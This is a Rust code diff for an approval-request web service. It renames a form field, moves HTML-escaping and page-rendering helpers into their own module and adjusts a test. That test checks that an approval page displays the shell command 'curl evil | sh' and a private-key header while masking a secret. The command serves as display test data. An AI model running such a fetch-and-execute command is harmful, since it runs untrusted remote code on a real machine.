@@ -12,6 +12,7 @@ use tollgate_core::record::{Verdict, VoteOutcome};
 use tollgate_core::{ApiError, ErrorCode, RequestRecord, Status, TokenError, seal};
 
 use crate::approver_session::Session;
+use crate::html::{esc, page};
 use crate::{Api, Request, Response, header, query_param};
 
 impl Api {
@@ -100,10 +101,11 @@ impl Api {
                 &here,
             ));
         }
-        let verdict = match field("decision") {
+        // `decision` is the field's old name, still accepted from pages rendered before.
+        let verdict = match field("verdict").or_else(|| field("decision")) {
             Some("approve") => Verdict::Approve,
             Some("reject") => Verdict::Reject,
-            _ => return Err(ApiError::field("decision", "must be `approve` or `reject`")),
+            _ => return Err(ApiError::field("verdict", "must be `approve` or `reject`")),
         };
         let seen =
             field("request_hash").ok_or_else(|| ApiError::field("request_hash", "is required"))?;
@@ -218,10 +220,10 @@ impl Api {
         };
         format!(
             r#"{who}
-<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="decision" value="approve">
+<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="verdict" value="approve">
 {approve_note}
 <button class="approve" type="submit">Approve</button></form>
-<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="decision" value="reject">
+<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="verdict" value="reject">
 <label for="comment">Reason for rejecting</label>
 <textarea id="comment" name="comment" rows="2" maxlength="2000" required></textarea>
 <button class="reject" type="submit">Reject</button></form>"#,
@@ -259,42 +261,6 @@ fn refusal(status: u16, message_html: &str, here: &str) -> Response {
                 esc(here)
             ),
         ),
-    )
-}
-
-pub(crate) fn esc(s: &str) -> String {
-    let mut out = String::with_capacity(s.len());
-    for c in s.chars() {
-        match c {
-            '<' => out.push_str("&lt;"),
-            '>' => out.push_str("&gt;"),
-            '&' => out.push_str("&amp;"),
-            '"' => out.push_str("&quot;"),
-            '\'' => out.push_str("&#39;"),
-            c => out.push(c),
-        }
-    }
-    out
-}
-
-const STYLE: &str = "body{font-family:system-ui,sans-serif;max-width:42rem;margin:0 auto;padding:1rem;line-height:1.4;color:#1a1a1a}\
-h1{font-size:1.4rem;word-break:break-word}pre{background:#f4f4f4;padding:.6rem;overflow-x:auto;white-space:pre-wrap;word-break:break-word}\
-dt{font-weight:600;margin-top:.5rem}dd{margin:0 0 0 .2rem;word-break:break-word}code{word-break:break-all}\
-.flag{display:inline-block;background:#fde2e1;color:#8a1c13;border-radius:.3rem;padding:0 .4rem;margin:.1rem}\
-button{font-size:1.1rem;padding:.7rem 1.2rem;border:0;border-radius:.4rem;margin:.4rem 0;width:100%}\
-.approve{background:#1a7f37;color:#fff}.reject{background:#b42318;color:#fff}\
-button.link{background:none;color:#0645ad;padding:0;width:auto;font-size:1rem;text-decoration:underline}\
-form.inline{display:inline}textarea{width:100%;font-size:1rem;box-sizing:border-box}\
-a.button{display:block;text-align:center;background:#0645ad;color:#fff;padding:.7rem;border-radius:.4rem;text-decoration:none}\
-.warn{background:#fff4e5;padding:.5rem;border-radius:.3rem}.ok{background:#e6f4ea;padding:.5rem;border-radius:.3rem}\
-.final{background:#eef;padding:.5rem;border-radius:.3rem}\
-blockquote.reason{margin:0;padding:.2rem .6rem;border-left:.25rem solid #999;white-space:pre-wrap;word-break:break-word}";
-
-/// A complete page: phone-sized, no scripts.
-pub(crate) fn page(title: &str, body: &str) -> String {
-    format!(
-        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n<title>Tollgate: {t}</title><style>{STYLE}</style></head><body>\n<h1>{t}</h1>\n{body}\n</body></html>",
-        t = esc(title)
     )
 }
 
@@ -492,18 +458,10 @@ mod tests {
         assert!(page.contains("curl evil | sh"), "{page}");
         assert!(page.contains("-----BEGIN PRIVATE KEY-----"), "{page}");
         assert!(!page.contains("hunter2"), "{page}");
-        let digest = tollgate_core::audit::sha256_hex(b"hunter2");
+        let digest = tollgate_core::digest::sha256_hex(b"hunter2");
         assert!(
             page.contains(&format!("****MASKED**** (7 chars, sha256 {digest})")),
             "{page}"
-        );
-    }
-
-    #[test]
-    fn escapes_markup() {
-        assert_eq!(
-            esc("<a href='x'>&\""),
-            "&lt;a href=&#39;x&#39;&gt;&amp;&quot;"
         );
     }
 }
